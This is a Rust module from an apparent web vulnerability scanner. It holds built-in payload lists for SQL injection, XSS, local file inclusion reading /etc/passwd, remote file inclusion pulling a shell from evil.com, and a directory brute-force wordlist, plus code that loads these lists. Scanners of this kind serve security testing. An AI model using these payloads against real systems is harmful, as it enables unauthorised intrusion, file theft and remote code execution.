use crate::core::{ExpectedSignal, Payload, VulnerabilityClass};
use crate::error::EngineError;
use crate::utils::read_lines;
use crate::ScanConfig;
use log::{debug, warn};
use std::path::Path;

/// Ordered cheapest and highest-signal first; time-delay payloads come last.
pub const SQLI_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' OR 1=1 --",
    "admin' --",
    "admin' #",
    "' UNION SELECT NULL,NULL,NULL-- -",
    "' UNION SELECT @@version,NULL,NULL-- -",
    "' OR EXISTS(SELECT 1 FROM users)-- -",
    "' HAVING 1=1 --",
    "' GROUP BY columnname HAVING 1=1 --",
    "' ORDER BY 1--",
    "' ORDER BY 2--",
    "' ORDER BY 3--",
    "admin' AND '1'='1",
    "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--",
    "1' AND SLEEP(5)-- -",
    "1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)-- -",
    "'; SELECT pg_sleep(5)--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
];

pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "javascript:alert(1)",
    "#<img src=x onerror=alert(document.domain)>",
    "<a href=\"javascript:alert(1)\">x</a>",
];

pub const LFI_PAYLOADS: &[&str] = &[
    "../../../etc/passwd",
    "../../../../etc/passwd",
    "../../../../../../etc/passwd",
    "/etc/passwd",
    "../../../etc/passwd\0",
    "../../../../etc/passwd\0",
    "....//....//etc/passwd",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..\\..\\..\\windows\\win.ini",
    "php://filter/convert.base64-encode/resource=index.php",
];

pub const RFI_PAYLOADS: &[&str] = &[
    "http://evil.com/shell.php",
    "http://evil.com/shell.txt?",
    "https://evil.com/shell.php",
    "http://evil.com/shell.php%00",
    "//evil.com/shell.php",
];

pub const DEFAULT_WORDLIST: &[&str] = &[
    "admin",
    "administrator",
    "wp-admin",
    "login",
    "backup",
    "backups",
    "config",
    "uploads",
    "api",
    "test",
    "dev",
    "old",
    "private",
    "phpmyadmin",
    ".git",
    ".env",
    "robots.txt",
    "server-status",
];

pub const DEFAULT_EXTENSIONS: &[&str] = &[".php", ".bak", ".old", ".txt", ".zip", ".sql", "~"];

const DELAY_MARKERS: &[&str] = &["sleep", "waitfor", "pg_sleep", "benchmark", "dbms_pipe"];

/// Delay payloads are judged by timing, everything else by response content.
pub fn classify_sql_signal(payload: &str) -> ExpectedSignal {
    let lower = payload.to_lowercase();
    if DELAY_MARKERS.iter().any(|m| lower.contains(m)) {
        ExpectedSignal::Delay
    } else {
        ExpectedSignal::Error
    }
}

fn signal_for(class: VulnerabilityClass, value: &str) -> ExpectedSignal {
    match class {
        VulnerabilityClass::SqlInjection => classify_sql_signal(value),
        VulnerabilityClass::Xss => ExpectedSignal::Reflect,
        VulnerabilityClass::Lfi | VulnerabilityClass::Rfi => ExpectedSignal::Error,
        VulnerabilityClass::DirectoryBruteforce => ExpectedSignal::Exists,
    }
}

fn build(class: VulnerabilityClass, values: &[&str]) -> Vec<Payload> {
    values
        .iter()
        .map(|v| Payload::new(class, *v, signal_for(class, v)))
        .collect()
}

/// Attack strings per vulnerability class, in a fixed order.
#[derive(Debug, Clone, Default)]
pub struct PayloadCorpus {
    sqli: Vec<Payload>,
    xss: Vec<Payload>,
    lfi: Vec<Payload>,
    rfi: Vec<Payload>,
    paths: Vec<Payload>,
    extensions: Vec<String>,
}

impl PayloadCorpus {
    pub fn new() -> Self {
        Self::default()
    }

    /// The built-in corpora.
    pub fn builtin() -> Self {
        Self {
            sqli: build(VulnerabilityClass::SqlInjection, SQLI_PAYLOADS),
            xss: build(VulnerabilityClass::Xss, XSS_PAYLOADS),
            lfi: build(VulnerabilityClass::Lfi, LFI_PAYLOADS),
            rfi: build(VulnerabilityClass::Rfi, RFI_PAYLOADS),
            paths: build(VulnerabilityClass::DirectoryBruteforce, DEFAULT_WORDLIST),
            extensions: DEFAULT_EXTENSIONS.iter().map(|s| s.to_string()).collect(),
        }
    }

    /// Built-ins plus whatever the config adds. A configured wordlist replaces the
    /// built-in one; payload files are appended after the built-in payloads.
    pub fn from_config(config: &ScanConfig) -> Result<Self, EngineError> {
        let mut corpus = Self::builtin();

        let mut files: Vec<_> = config.payload_files.iter().collect();
        files.sort();
        for (class, path) in files {
            let added = corpus.extend_from_file(*class, path)?;
            if added == 0 {
                warn!("No {} payloads loaded from {}", class, path);
            }
        }

        if let Some(path) = &config.wordlist {
            let words = load_list(path)?;
            if words.is_empty() {
                warn!("Wordlist {} is empty", path);
            }
            corpus.paths = words
                .iter()
                .map(|w| Payload::new(VulnerabilityClass::DirectoryBruteforce, w.as_str(), ExpectedSignal::Exists))
                .collect();
        }

        if !config.extensions.is_empty() {
            corpus.extensions = config.extensions.iter().map(|e| normalize_extension(e)).collect();
        }

        Ok(corpus)
    }

    /// Appends the non-empty lines of `path` to the corpus of `class`.
    pub fn extend_from_file(&mut self, class: VulnerabilityClass, path: impl AsRef<Path>) -> Result<usize, EngineError> {
        let path = path.as_ref();
        let lines = load_list(path)?;
        let target = self.slot_mut(class);
        let before = target.len();
        target.extend(lines.iter().map(|v| Payload::new(class, v.as_str(), signal_for(class, v))));
        let added = target.len() - before;
        debug!("Loaded {} {} payloads from {}", added, class, path.display());
        Ok(added)
    }

    /// Deterministic, ordered payloads for a class.
    pub fn for_class(&self, class: VulnerabilityClass) -> &[Payload] {
        match class {
            VulnerabilityClass::SqlInjection => &self.sqli,
            VulnerabilityClass::Xss => &self.xss,
            VulnerabilityClass::Lfi => &self.lfi,
            VulnerabilityClass::Rfi => &self.rfi,
            VulnerabilityClass::DirectoryBruteforce => &self.paths,
        }
    }

    fn slot_mut(&mut self, class: VulnerabilityClass) -> &mut Vec<Payload> {
        match class {
            VulnerabilityClass::SqlInjection => &mut self.sqli,
            VulnerabilityClass::Xss => &mut self.xss,
            VulnerabilityClass::Lfi => &mut self.lfi,
            VulnerabilityClass::Rfi => &mut self.rfi,
            VulnerabilityClass::DirectoryBruteforce => &mut self.paths,
        }
    }

    pub fn wordlist(&self) -> Vec<String> {
        self.paths.iter().map(|p| p.value.clone()).collect()
    }

    pub fn extensions(&self) -> &[String] {
        &self.extensions
    }

    /// Cartesian product of the wordlist and the extension list.
    pub fn extension_candidates(&self) -> Vec<String> {
        expand_extensions(&self.wordlist(), &self.extensions)
    }

    pub fn payload_count(&self) -> usize {
        VulnerabilityClass::ALL.iter().map(|c| self.for_class(*c).len()).sum()
    }
}

/// `base × extensions`, base-major order.
pub fn expand_extensions(bases: &[String], extensions: &[String]) -> Vec<String> {
    bases
        .iter()
        .flat_map(|base| extensions.iter().map(move |ext| format!("{}{}", base, ext)))
        .collect()
}

fn normalize_extension(ext: &str) -> String {
    let ext = ext.trim();
    if ext.starts_with('.') || ext.starts_with('~') {
        ext.to_string()
    } else {
        format!(".{}", ext)
    }
}

fn load_list(path: impl AsRef<Path>) -> Result<Vec<String>, EngineError> {
    let path = path.as_ref();
    read_lines(path).map_err(|e| {
        EngineError::InvalidConfig(format!("failed to read '{}': {}", path.display(), e))
    })
}
